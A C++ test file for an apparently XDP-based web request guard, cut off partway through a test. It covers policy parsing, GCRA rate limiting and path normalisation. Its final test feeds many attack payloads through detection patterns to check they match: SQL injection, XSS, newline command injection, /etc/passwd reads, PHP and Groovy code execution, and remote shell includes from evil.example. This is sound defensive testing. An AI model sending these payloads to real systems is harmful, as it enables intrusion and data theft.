#include <arpa/inet.h>

#include <netinet/in.h>

#include <catch2/catch.hpp>
#include <cstring>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <random>

#include "bpf/bulwark.h"
#include "core/error.hpp"
#include "guard/automaton.hpp"
#include "guard/events.hpp"
#include "guard/policy.hpp"
#include "guard/program.hpp"

using namespace bulwark;
using namespace bulwark::policy;
using Catch::Matchers::Contains;

static Policy parse(const std::string& text) {
    return parse_policy(parse_json(text, "w.json"), "w.json");
}

TEST_CASE("rates", "[policy]") {
    CHECK(parse_rate("60/minute") == Rate{60, 60'000'000'000ull, 60});
    CHECK(parse_rate("2000/second").period_ns == 1'000'000'000ull);
    CHECK(parse_rate("1/day").period_ns == 86'400'000'000'000ull);
    CHECK_THROWS_WITH(parse_rate("0/second"), Contains("count must be"));
    CHECK_THROWS_WITH(parse_rate("5/fortnight"),
                      Contains("unit must be second, minute, hour or day"));
    CHECK_THROWS_WITH(parse_rate("-5/second"), Contains("count must be"));
    CHECK_THROWS_WITH(parse_rate("fast"), Contains("COUNT/UNIT"));
    auto g = to_gcra(Rate{60, 60'000'000'000ull, 20});
    CHECK(g.interval_ns == 1'000'000'000ull);
    CHECK(g.tau_ns == 19'000'000'000ull);
}

TEST_CASE("a full policy parses; limits inherit from default", "[policy]") {
    auto p = parse(R"({
      "version": 1, "inspect_ports": [80, 8080],
      "lists": {"deny": ["203.0.113.0/24"], "trusted": ["198.18.0.0/30", "2001:db8::/48"], "suspicious": ["198.51.100.0/24"]},
      "limits": {"key_prefix": {"ipv4": 32, "ipv6": 64},
                 "default": {"packets": {"rate": "2000/second", "burst": 4000},
                             "connections": {"rate": "60/minute", "burst": 20},
                             "requests": {"rate": "60/minute"}},
                 "suspicious": {"requests": {"rate": "10/minute", "burst": 5}},
                 "trusted": null},
      "rules": [{"match": "GET /api/health", "action": "exempt"},
                {"match": "POST /api/session/start", "limit": {"rate": "10/minute", "burst": 3}}],
      "patterns": {"scan_bytes": 512, "sets": {"sqli": ["union select"], "traversal": ["../", "..%2f"]}},
      "events": {"per_source_per_second": 2}, "max_sources": 65536, "fragments": "drop"})");
    CHECK(p.inspect_ports == std::vector<uint16_t>{80, 8080});
    CHECK(p.deny.size() == 1);
    CHECK(p.trusted.size() == 2);
    CHECK(p.default_limits.requests->burst == 60);
    CHECK(p.default_limits.packets->burst == 4000);
    CHECK(p.suspicious_limits.requests == Rate{10, 60'000'000'000ull, 5});
    CHECK(p.suspicious_limits.packets == p.default_limits.packets);  // inherited
    CHECK(p.trusted_unlimited);
    REQUIRE(p.rules.size() == 2);
    CHECK(p.rules[0].exempt);
    CHECK(p.rules[1].limit->burst == 3);
    REQUIRE(p.pattern_sets.size() == 2);
    CHECK(p.pattern_sets[1].size() == 2);
    CHECK(p.events_per_source_per_second == 2);
    CHECK(p.max_sources == 65536);
    CHECK(p.non_first_fragments == Policy::Fragments::Drop);
    auto j = summary(p, 2);
    CHECK(j["patterns"]["total"] == 3);
    CHECK(j["limits"]["suspicious"]["requests"]["rate"] == "10/minute");
}

TEST_CASE("bad policies name the file and JSON path", "[policy]") {
    CHECK_THROWS_WITH(parse(R"({"lists": {"deny": ["10.0.0.0/33"]}})"),
                      Contains("w.json: /lists/deny/0: \"10.0.0.0/33\": prefix length"));
    CHECK_THROWS_WITH(parse(R"({"lists": {"trusted": ["::1/129"]}})"),
                      Contains("/lists/trusted/0"));
    CHECK_THROWS_WITH(parse(R"({"lists": {"deny": ["1.2.3"]}})"), Contains("/lists/deny/0"));
    CHECK_THROWS_WITH(parse(R"({"patterns": {"binary_bodies": "maybe"}})"),
                      Contains("w.json: /patterns/binary_bodies: binary_bodies must be \"skip\" "
                               "or \"scan\""));
    CHECK_FALSE(parse(R"({"patterns": {}})").scan_binary);
    CHECK(parse(R"({"patterns": {"binary_bodies": "scan"}})").scan_binary);
    CHECK_THROWS_WITH(parse(R"({"limts": {}})"),
                      Contains("w.json: /: unknown key \"limts\" (did you mean \"limits\"?)"));
    CHECK_THROWS_WITH(
        parse(R"({"limits": {"default": {"request": {"rate": "1/second"}}}})"),
        Contains("/limits/default: unknown key \"request\" (did you mean \"requests\"?)"));
    CHECK_THROWS_WITH(parse(R"({"limits": {"default": {"requests": {"rate": "0/second"}}}})"),
                      Contains("/limits/default/requests/rate: rate \"0/second\": count must be"));
    CHECK_THROWS_WITH(parse(R"({"limits": {"default": {"requests": {"rate": "5/fortnight"}}}})"),
                      Contains("/limits/default/requests/rate"));
    CHECK_THROWS_WITH(
        parse(R"({"limits": {"default": {"requests": {"rate": "5/second", "burst": -1}}}})"),
        Contains("/limits/default/requests/burst: burst must be at least 1"));
    CHECK_THROWS_WITH(
        parse(R"({"limits": {"default": {"requests": {"rate": "5/second", "burst": 0}}}})"),
        Contains("burst must be at least 1"));
    CHECK_THROWS_WITH(
        parse(
            R"({"limits": {"default": {"requests": {"rate": "5/second", "burst": 99999999999}}}})"),
        Contains("/limits/default/requests/burst: value 99999999999 is above the maximum"));
    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": [""]}}})"),
                      Contains("/patterns/sets/x/0: empty pattern"));
    CHECK_THROWS_WITH(
        parse(R"({"patterns": {"sets": {"x": [")" + std::string(1100, 'a') + R"("]}}})"),
        Contains("/patterns/sets/x/0: pattern is 1100 bytes"));
    CHECK_THROWS_WITH(parse(R"({"patterns": {"scan_bytes": 4, "sets": {"x": ["union"]}}})"),
                      Contains("longer than scan_bytes"));
    CHECK_THROWS_WITH(parse(R"({"patterns": {"scan_bytes": 4000}})"),
                      Contains("/patterns/scan_bytes: value 4000"));
    // Any upper-case method the guard counts as a request's (WebDAV's, an application's own).
    for (auto m : {"get", "G@T", "GET\\t/x", "MMMMMMMMMMMMMMMMMMMMM", "GET x"})
        CHECK_THROWS_WITH(
            parse(R"({"rules": [{"match": ")" + std::string(m) + R"( /x", "action": "exempt"}]})"),
            Contains("/rules/0/match: match \"") && Contains("is not \"METHOD /path\""));
    CHECK(parse(R"({"rules": [{"match": "PROPFIND /dav/", "action": "exempt"},
                              {"match": "VERSION-CONTROL /", "action": "exempt"}]})")
              .rules.size() == 2);
    CHECK_THROWS_WITH(parse(R"({"rules": [{"match": "GET /x"}]})"),
                      Contains("/rules/0: a rule needs"));
    // A rule is compared with the line as a server routes it: one written otherwise would
    // never match, and the error says how to write it.
    for (auto [m, want] :
         std::vector<std::pair<std::string, std::string>>{{"GET /caf%C3%A9", "GET /caf\xc3\xa9"},
                                                          {"GET //api", "GET /api"},
                                                          {"GET /a/./b", "GET /a/b"},
                                                          {"GET /a/../b", "GET /b"},
                                                          {"GET /a/..", "GET /"},
                                                          {"GET /a\\\\b", "GET /a/b"},
                                                          {"GET /a;v=1/b", "GET /a/b"}})
        CHECK_THROWS_WITH(parse(R"({"rules": [{"match": ")" + m + R"(", "action": "exempt"}]})"),
                          Contains("/rules/0/match: match") && Contains("write \"" + want + "\""));
    CHECK(parse(R"({"rules": [{"match": "GET /search?q=%20a", "action": "exempt"},
                              {"match": "GET /.well-known/", "action": "exempt"},
                              {"match": "GET /a..b/...", "action": "exempt"}]})")
              .rules.size() == 3);
    CHECK_THROWS_WITH(parse(R"({"rules": [{"match": "GET /x", "action": "allow"}]})"),
                      Contains("/rules/0/action"));
    CHECK_THROWS_WITH(parse(R"({"lists": {"deny": ["10.0.0.0/8"], "trusted": ["10.0.0.0/8"]}})"),
                      Contains("/lists: \"10.0.0.0/8\" is in both \"deny\" and \"trusted\""));
    CHECK_THROWS_WITH(parse(R"({"version": 2})"),
                      Contains("/version: unsupported policy version 2"));
    CHECK_THROWS_WITH(parse(R"({"inspect_ports": [70000]})"),
                      Contains("/inspect_ports/0: value 70000"));
    // "not_in": headers that "headers" leaves out.
    auto left_out = [](const char* json) { return parse(json).pattern_sets.at(0).scope.not_in; };
    CHECK(left_out(R"({"patterns": {"sets": {"x": {"in": ["any"], "not_in": ["Cookie"],
                       "literals": ["y"]}}}})") == std::vector<std::string>{"cookie"});
    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"in": ["uri", "user-agent"],
                               "not_in": ["cookie"], "literals": ["y"]}}}})"),
                      Contains("/patterns/sets/x/not_in/0: \"not_in\" leaves out a header of "
                               "\"headers\", which \"in\" does not name"));
    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"in": ["headers", "cookie"],
                               "not_in": ["cookie"], "literals": ["y"]}}}})"),
                      Contains("/patterns/sets/x/not_in/0: \"cookie\" is both in"));
    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"not_in": ["body"],
                               "literals": ["y"]}}}})"),
                      Contains("/patterns/sets/x/not_in/0: \"not_in\" names headers, not a part"));
    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"not_in": ["a b"],
                               "literals": ["y"]}}}})"),
                      Contains("/patterns/sets/x/not_in/0"));
    std::string many = R"({"patterns": {"sets": {"x": [)";
    for (int i = 0; i <= BW_MAX_PATTERNS; ++i)
        many += (i ? ",\"p" : "\"p") + std::to_string(i) + "\"";
    many += "]}}}";
    CHECK_THROWS_WITH(parse(many), Contains("more than 1024 patterns"));
}

namespace {
__extension__ typedef unsigned __int128 u128;  // exact products of ns and counts

// Exact token bucket in integers scaled by the period: `level` is tokens * period_ns.
struct Bucket {
    Rate r;
    u128 level;
    uint64_t last = 0;
    explicit Bucket(Rate rate) : r(rate), level((u128)rate.burst * rate.period_ns) {}
    bool take(uint64_t now) {
        level += (u128)(now - last) * r.count;
        u128 cap = (u128)r.burst * r.period_ns;
        if (level > cap) level = cap;
        last = now;
        if (level < r.period_ns) return false;
        level -= r.period_ns;
        return true;
    }
};
}  // namespace

// What the kernel compares rules with (bw_rule_line_step, run here as the XDP program runs it):
// each way a client can spell a path the server routes as another.
TEST_CASE("rules compare the request line as a server routes it", "[policy][rules]") {
    auto line = [](const std::string& l) { return rule_line(l).value_or("(unresolved)"); };
    const std::vector<std::pair<std::string, std::string>> cases = {
        // percent-encoding, in any case, and an encoded slash, dot or backslash
        {"POST /api/session/%73tart HTTP/1.1", "POST /api/session/start HTTP/1.1"},
        {"POST /api%2fsession%2Fstart HTTP/1.1", "POST /api/session/start HTTP/1.1"},
        {"GET /x/%2e%2E/api/health HTTP/1.1", "GET /api/health HTTP/1.1"},
        // an encoded '?', '#' or space is the path's byte, not its end
        {"GET /api/health%3F/../../admin HTTP/1.1", "GET /admin HTTP/1.1"},
        {"GET /api/health%23/%2e%2e/x%20y HTTP/1.1", "GET /api/x y HTTP/1.1"},
        {"GET /api%5Chealth HTTP/1.1", "GET /api/health HTTP/1.1"},
        // slashes: runs, backslashes (IIS), and dot segments (RFC 3986 5.2.4)
        {"POST //api///session/start HTTP/1.1", "POST /api/session/start HTTP/1.1"},
        {"GET /api\\health HTTP/1.1", "GET /api/health HTTP/1.1"},
        {"GET /api/./health/. HTTP/1.1", "GET /api/health/ HTTP/1.1"},
        {"GET /api/health/../../admin HTTP/1.1", "GET /admin HTTP/1.1"},
        {"GET /../../../api/health HTTP/1.1", "GET /api/health HTTP/1.1"},
        {"GET /a/b/c/.. HTTP/1.1", "GET /a/b/ HTTP/1.1"},
        // a segment's ";param", which servlet containers drop (Tomcat's "..;" is "..")
        {"POST /api;v=2/session/start HTTP/1.1", "POST /api/session/start HTTP/1.1"},
        {"GET /api/health/..;/..;/admin HTTP/1.1", "GET /admin HTTP/1.1"},
        {"GET /a;jsessionid=F00?x=;y HTTP/1.1", "GET /a?x=;y HTTP/1.1"},
        {"GET /a%3Bb/c HTTP/1.1", "GET /a;b/c HTTP/1.1"},
        // the target's other forms: absolute (a proxy's, which servers must take), asterisk
        {"POST http://app.example:8080/api/session/start HTTP/1.1",
         "POST /api/session/start HTTP/1.1"},
        {"OPTIONS * HTTP/1.1", "OPTIONS * HTTP/1.1"},
        {"POST chrome-extension://x/api/session/start HTTP/1.1",
         "POST /api/session/start HTTP/1.1"},
        // what stays: the query as sent, segments that only look like dots, case
        {"GET /search?q=%2e%2e/x//y HTTP/1.1", "GET /search?q=%2e%2e/x//y HTTP/1.1"},
        {"GET /a..b/.../.x/x. HTTP/1.1", "GET /a..b/.../.x/x. HTTP/1.1"},
        {"GET /API/Health HTTP/1.1", "GET /API/Health HTTP/1.1"},
        {"GET /%zz/%4 HTTP/1.1", "GET /%zz/%4 HTTP/1.1"},
        {"GET /%252e%252e/x HTTP/1.1", "GET /%2e%2e/x HTTP/1.1"},
        // a bare LF ends the path as CR LF does
        {"GET /a/..\n", "GET /\n"},
    };
    for (auto& [in, want] : cases) {
        INFO(in);
        CHECK(line(in) == want);
    }
    // A long segment and then "..": the path is read to its end, not to 64 bytes.
    CHECK(line("POST /" + std::string(200, 'x') + "/../api/session/start HTTP/1.1") ==
          "POST /api/session/start HTTP/1.1");
    // Only the first 64 bytes are kept (a rule is at most 64).
    CHECK(line("GET /" + std::string(100, 'y') + " HTTP/1.1") == "GET /" + std::string(59, 'y'));
    // 31 segments deep and back: resolved; past the 32 slashes recorded and back: unresolved.
    auto nest = [](int n) {
        std::string s = "POST ";
        for (int i = 0; i < n; ++i) s += "/a";
        for (int i = 0; i < n; ++i) s += "/..";
        return s + "/api/session/start HTTP/1.1";
    };
    CHECK(line(nest(31)) == "POST /api/session/start HTTP/1.1");
    CHECK(line(nest(40)) == "(unresolved)");
    // Deep without climbing back is no evasion: resolved.
    std::string deep = "GET ";
    for (int i = 0; i < 40; ++i) deep += "/a";
    CHECK(line(deep + " HTTP/1.1") == deep.substr(0, 64));
}

TEST_CASE("GCRA in integers equals an exact token bucket", "[rate]") {
    std::mt19937_64 rng(7);
    // Rates whose interval is a whole number of ns: GCRA and the bucket must agree exactly.
    for (auto rs : {"2000/second", "60/minute", "10/minute", "100/second"}) {
        for (uint64_t burst : {1ull, 3ull, 20ull}) {
            Rate r = parse_rate(rs);
            r.burst = burst;
            auto g = to_gcra(r);
            bw_rate br{g.interval_ns, g.tau_ns};
            Bucket ref(r);
            uint64_t now = 1'000'000'000'000ull;
            __u64 tat = 0;
            for (int i = 0; i < 20000; ++i) {
                now += rng() % (3 * g.interval_ns / std::max<uint64_t>(burst, 1) + 1);
                __u64 nt = 0;
                bool ok = bw_gcra(tat, now, &br, &nt);
                if (ok) tat = nt;
                INFO(rs << " burst " << burst << " step " << i);
                REQUIRE(ok == ref.take(now - 1'000'000'000'000ull));
            }
        }
    }
}

TEST_CASE("a source at exactly its rate is never dropped; at twice it gets burst + rate",
          "[rate]") {
    for (auto rs : {"7/second", "60/minute", "2000/second", "3/hour"}) {
        Rate r = parse_rate(rs);
        r.burst = 5;
        auto g = to_gcra(r);
        bw_rate br{g.interval_ns, g.tau_ns};
        // Exactly at the rate: packet k at k*period/count (exact rational times, floored).
        __u64 tat = 0, nt = 0;
        uint64_t passed = 0;
        const uint64_t start = 1'000'000'000'000ull;
        for (uint64_t k = 0; k < 10000; ++k) {
            uint64_t now = start + static_cast<uint64_t>((u128)k * r.period_ns / r.count);
            if (bw_gcra(tat, now, &br, &nt)) {
                tat = nt;
                ++passed;
            }
        }
        CHECK(passed == 10000);
        // Twice the rate for a window W: burst + W*rate pass, within one packet.
        tat = 0;
        passed = 0;
        const uint64_t window = 10 * r.period_ns;
        uint64_t sent = 2 * 10 * r.count;
        for (uint64_t k = 0; k < sent; ++k) {
            uint64_t now = start + static_cast<uint64_t>((u128)k * window / sent);
            if (bw_gcra(tat, now, &br, &nt)) {
                tat = nt;
                ++passed;
            }
        }
        uint64_t expect = r.burst + 10 * r.count;
        INFO(rs << " passed " << passed << " expected " << expect);
        CHECK(passed + 1 >= expect);
        CHECK(passed <= expect + 1);
    }
}

TEST_CASE("on the tick clock, a source at its rate is never dropped when the burst covers a tick",
          "[rate]") {
    const uint64_t tick = 4'000'000;  // HZ=250
    for (auto rs : {"100/second", "2000/second", "10000/second"}) {
        Rate r = parse_rate(rs);
        r.burst = std::max<uint64_t>(2, tick * r.count / r.period_ns + 1);
        auto g = to_gcra(r);
        REQUIRE(g.tau_ns >= tick);
        bw_rate br{g.interval_ns, g.tau_ns};
        __u64 tat = 0, nt = 0;
        uint64_t passed = 0;
        const uint64_t start = 1'000'000'000'000ull, n = 50000;
        for (uint64_t k = 0; k < n; ++k) {
            uint64_t now = start + static_cast<uint64_t>((u128)k * r.period_ns / r.count);
            if (bw_gcra(tat, now - now % tick, &br, &nt)) {
                tat = nt;
                ++passed;
            }
        }
        INFO(rs << " burst " << r.burst);
        CHECK(passed == n);
    }
}

TEST_CASE("the program reads the tick clock only when every bucket tolerates a tick", "[rate]") {
    const uint64_t tick = 4'000'000;
    auto with = [](const std::string& limits, const std::string& rules = "[]") {
        return parse(R"({"limits": {"default": )" + limits + R"(}, "rules": )" + rules + "}");
    };
    CHECK(xdp::make_config(with(R"({"requests": {"rate": "100/second", "burst": 200}})"), tick)
              .coarse_clock == 1);
    // Burst 1 at 1000/s: one packet per 4 ms tick would cap it at 250/s.
    CHECK(xdp::make_config(with(R"({"packets": {"rate": "1000/second", "burst": 1}})"), tick)
              .coarse_clock == 0);
    CHECK(xdp::make_config(
              with(R"({"requests": {"rate": "100/second", "burst": 200}})",
                   R"([{"match": "POST /login", "limit": {"rate": "1000/second", "burst": 1}}])"),
              tick)
              .coarse_clock == 0);
    CHECK(xdp::make_config(with(R"({"requests": {"rate": "100/second", "burst": 200}})"), 0)
              .coarse_clock == 0);
}

namespace {
// The set that fires on a request as the kernel sees it: one 1,460-byte segment at a time
// (later segments of a long request are body bytes without a request line).
std::string set_of(const automaton::Automaton& a, const Policy& p, const std::string& req) {
    for (size_t off = 0; off < req.size(); off += 1460)
        if (auto m = automaton::scan(a, req.substr(off, 1460), p.scan_bytes))
            return a.patterns[m - 1].set;
    return "";
}
}  // namespace

TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do not", "[policy]") {
    auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web.json");
    auto a = automaton::compile(all_patterns(p));
    REQUIRE(a.tables.size() <= BW_DFA_TABLES);
    auto set_hit = [&](const std::string& req) { return set_of(a, p, req); };
    CHECK(set_hit("GET /items?id=1%20UNION%20SELECT%20password HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=1'%20OR%20'1'%3D'1 HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=1+union/**/all/**/select+1,2 HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=1%20or%20true HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=1)%20or%20(1%3D1 HTTP/1.1\r\n") == "sqli");
    // Counting the query's columns, by ORDER BY or GROUP BY over positions, then a comment.
    CHECK(set_hit("GET /items?id=1%27+group+by+1%2C2%2C3--+- HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=2+ORDER+BY+1,+2+DESC%23 HTTP/1.1\r\n") == "sqli");
    // Tautologies by LIKE: numbers, and quoted LIKE wildcards.
    CHECK(set_hit("GET /items?id=1+and+2+RLIKE+2--+- HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"id\": \"5 or 3 like 3\"}") == "sqli");
    CHECK(set_hit("GET /items?q=abc%25%27+or+%27%25%27%3D%27 HTTP/1.1\r\n") == "sqli");
    // A quote closed, then a column compared: SQL's one '=', and its other comparisons.
    CHECK(set_hit("GET /login?user=x%27+or+username%3D%27admin HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /login?user=x%22+and+pass+!%3D+%22 HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?q=x%27)+or+t.name+like+%27%25 HTTP/1.1\r\n") == "sqli");
    // A tautology of arithmetic on both sides.
    CHECK(set_hit("GET /items?q=1%25%27+AND+2*3*8%3D6*8+AND+%27%25%27%3D%27 HTTP/1.1\r\n") ==
          "sqli");
    // A tautology of hex numbers; a quote closed, then a WHERE that is always true.
    CHECK(set_hit("GET /items?id=1+and+0x41%3D0x41 HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=1%27+where+1%3D1+-- HTTP/1.1\r\n") == "sqli");
    // A quote closed, then a comment, on one line: with blanks between, and before a value's
    // end in a JSON string.
    CHECK(set_hit("GET /login?user=admin%27+--+&pw=x HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"user\": \"admin\\\" -- \"}") == "sqli");
    // A double quote closed and a comment: at a parameter's end, before "-- -", in the request
    // line (a review's '"no" -- avoid' goes on in words, and passes: below).
    CHECK(set_hit("GET /login?user=admin%22--&pw=x HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /login?user=admin%22+--+-&pw=x HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /login?user=admin%22)--+ HTTP/1.1\r\n") == "sqli");
    // In an XML body (SOAP, XML-RPC): entity references decoded, a value ending at '<'.
    CHECK(set_hit("POST /ws HTTP/1.1\r\n\r\n<user>admin'--</user>") == "sqli");
    CHECK(set_hit("POST /ws HTTP/1.1\r\n\r\n<q>1 or a=a</q>") == "sqli");
    CHECK(set_hit("POST /ws HTTP/1.1\r\n\r\n<q>x&apos; or &apos;a&apos;=&apos;a</q>") == "sqli");
    CHECK(set_hit("POST /ws HTTP/1.1\r\n\r\n<h>1 &amp;&amp; ping -c 9 10.0.0.1</h>") == "rce");
    CHECK(set_hit("POST /ws HTTP/1.1\r\n\r\n<t>&lt;img src=x onerror=alert(1)&gt;</t>") == "xss");
    CHECK(set_hit("POST /ws HTTP/1.1\r\n\r\n<f>.htpasswd</f>") == "file_access");
    // A command after a JSON body's \\n, ended by the string's quote; after an XML &#10;.
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"host\": \"127.0.0.1\\nid\"}") == "shell_newline");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"t\": \"1\\r\\nsleep 5\", \"n\": 1}") ==
          "shell_newline");
    CHECK(set_hit("POST /ws HTTP/1.1\r\n\r\n<host>1&#10;whoami</host>") == "shell_newline");
    // A boolean test on who the query runs as (MySQL's user(), MSSQL's user_name()).
    CHECK(set_hit("GET /items?id=1+and+user()%3D%27root%27 HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=1%20AND%20USER_NAME()%20LIKE%20%27db%25%27 HTTP/1.1\r\n") ==
          "sqli");
    // A stacked UPDATE.
    CHECK(set_hit("GET /items?id=1%3B+UPDATE+accounts+SET+balance%3D0-- HTTP/1.1\r\n") ==
          "sqli_stacked");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"id\": \"1'; update `users` set `role`='admin\"}") ==
          "sqli_stacked");
    // A command after an encoded line break, alone on its line or a delay: at the request
    // line's end, before the next parameter, at a form's end, after CR LF, by its path.
    CHECK(set_hit("GET /ping?host=127.0.0.1%0Aid HTTP/1.1\r\n") == "shell_newline");
    CHECK(set_hit("GET /ping?host=127.0.0.1%0awhoami&count=1 HTTP/1.1\r\n") == "shell_newline");
    CHECK(set_hit("POST /diag HTTP/1.1\r\n\r\nhost=8.8.8.8%0d%0auname") == "shell_newline");
    CHECK(set_hit("GET /t?ip=1%0d%0a%0d%0ahostname%0a HTTP/1.1\r\n") == "shell_newline");
    CHECK(set_hit("GET /t?ip=1%0asleep%205 HTTP/1.1\r\n") == "shell_newline");
    CHECK(set_hit("POST /diag HTTP/1.1\r\n\r\nip=1%0D%0Atimeout+/t+5&go=1") == "shell_newline");
    // Strings built from character codes (CHAR()||CHAR(), NCHAR()+NCHAR()); a quote closed
    // into a comparison with a number, then a comment; PostgreSQL's COPY ... TO PROGRAM; a
    // MongoDB $where in JavaScript's unquoted key.
    CHECK(set_hit("GET /items?q=CHAR(97)||CHAR(100)||CHAR(109) HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?q=NCHAR(97)%2BNCHAR(100) HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=x%27%3D0--+- HTTP/1.1\r\n") == "sqli");
    // A quote closed, then a comment, wherever the value ends: a JSON string, a cookie.
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"u\": \"admin'--\", \"v\": \"x' #\"}") == "sqli");
    CHECK(set_hit("GET / HTTP/1.1\r\nCookie: user=admin'--; theme=dark\r\n\r\n") == "sqli");
    CHECK(set_hit("GET /items?id=1%3Bcopy+(select+%27%27)+to+program+%27id%27 HTTP/1.1\r\n") ==
          "sqli");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"q\": \"true, $where: '1 == 1'\"}") == "sqli");
    // A Windows command closed by a JSON string's quote; a PHP function given a magic constant.
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"host\": \"& tasklist\"}") == "rce");
    CHECK(set_hit("GET /p?code=highlight_file(__DIR__) HTTP/1.1\r\n") == "php");
    CHECK(set_hit("GET /p?q=%3Clink+rel%3Dimport+href%3D//evil.example/x%3E HTTP/1.1\r\n") ==
          "xss");
    CHECK(set_hit("GET /search?q=%3CScRiPt%3Ealert(1)%3C/script%3E HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /p?x=<img src=x onerror = alert(1)> HTTP/1.1\r\n") == "xss");
    // Breaking out of a script's string with print(); a call through a regex's source; an old
    // IE handler; the constructor's constructor outside a template; a newline entity inside
    // "javascript:".
    CHECK(set_hit("GET /p?q=%27-print()-%27 HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /p?q=top[/al/.source%2B/ert/.source](1) HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /p?q=<a+tabindex=1+onbeforedeactivate=print()> HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /p?q=constructor.constructor(%27print()%27)() HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /p?q=<a+href=%22jav%26%23x0A;ascript:print()%22> HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /p?q=<a+href=%22j%26%2310;avas%26%23x09;cript:print()%22> HTTP/1.1\r\n") ==
          "xss");
    // An attribute's value spelled in HTML character references (j, a, v, a, ...).
    CHECK(
        set_hit("POST /c HTTP/1.1\r\n\r\nm=%3CIMG+SRC%3D%26%23106%3B%26%2397%3B%26%23118%3B%26%2397"
                "%3B%26%23115%3B%3E") == "xss");
    CHECK(set_hit("GET /p?x=<a+href='&#x6A&#x61&#x76&#x61&#x73'> HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /static/..%2f..%2fapp/main.py HTTP/1.1\r\n") == "traversal");
    CHECK(set_hit("GET /download?f=%2Fetc%2Fpasswd HTTP/1.1\r\n") == "file_access");
    // Stream wrappers in a set of their own, in parameters (rfi reads a URL given to file=).
    CHECK(set_hit("GET /page?file=php://filter/resource=index HTTP/1.1\r\n") == "rfi");
    CHECK(set_hit("GET /page?q=php://filter/resource=index HTTP/1.1\r\n") == "php_wrappers");
    CHECK(set_hit("GET /img?f=phar://uploads/a.jpg/x HTTP/1.1\r\n") == "php_wrappers");
    CHECK(set_hit("POST /x HTTP/1.1\r\n\r\nf=expect://id") == "php_wrappers");
    // Parameters that name PHP code for a framework to call: ThinkPHP 5's routing exploit,
    // its class names through an encoded backslash, a method override naming a magic method,
    // a PHP function as an array parameter's whole value.
    CHECK(set_hit("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_"
                  "func_array&vars[0]=md5&vars[1][]=x HTTP/1.1\r\n") == "php_params");
    CHECK(set_hit("GET /?s=index/%5Cthink%5CRequest/input&filter=phpinfo&data=1 HTTP/1.1\r\n") ==
          "php_params");
    CHECK(set_hit("POST /index.php?s=captcha HTTP/1.1\r\n\r\n_method=__construct&method=get") ==
          "php_params");
    CHECK(set_hit("POST /x HTTP/1.1\r\n\r\na=1&filter[]=system&b=id") == "php_params");
    CHECK(set_hit("GET /x?cb[1][]=call_user_func HTTP/1.1\r\n") == "php_params");
    // Groovy's String.execute(), as a Jenkins script console runs it.
    CHECK(set_hit("POST /script HTTP/1.1\r\n\r\nscript=println+%22id%22.execute().text") == "java");
    CHECK(set_hit("POST /script HTTP/1.1\r\n\r\nscript=%5B%22sh%22%2C%22-c%22%2C%22id%22%5D."
                  "execute()") == "java");
    // Endpoints of appliances and frameworks that exploit bots spray.
    CHECK(set_hit("POST /mgmt/tm/util/bash HTTP/1.1\r\n\r\n{}") == "probes");
    CHECK(set_hit("POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n") == "probes");
    CHECK(set_hit("GET /autodiscover/autodiscover.json?@x.example/owa/ HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("POST /_ignition/execute-solution HTTP/1.1\r\n\r\n{}") == "probes");
    CHECK(set_hit("GET /page?inc=http://203.0.113.9/shell.txt? HTTP/1.1\r\n") == "rfi");
    CHECK(set_hit("GET /go?u=http:/%5C/%5Cevil.example/x HTTP/1.1\r\n") == "rfi");
    // Loopback spelled in octal, and the address 0.
    CHECK(set_hit("GET /fetch?url=http://017700000001/admin HTTP/1.1\r\n") == "rfi");
    CHECK(set_hit("GET /fetch?url=http://0:8080/ HTTP/1.1\r\n") == "rfi");
    // The '?' that cuts off an appended extension, in a cookie's value: ';' ends it there.
    CHECK(set_hit("GET / HTTP/1.1\r\nCookie: pref=http%3A%2F%2Fevil.example%2Fx.txt%3F; "
                  "sid=1\r\n\r\n") == "rfi");
    // ... and in an XML body, where '<' ends it.
    CHECK(set_hit("POST /api HTTP/1.1\r\nContent-Type: application/xml\r\n\r\n<order><note>"
                  "http://203.0.113.9/shell.txt?</note></order>") == "rfi");
    // LDAP filter injection: the closing "*)" then any number of opening parentheses.
    CHECK(set_hit("GET /login?user=admin*)((|userPassword=*) HTTP/1.1\r\n") == "protocol");
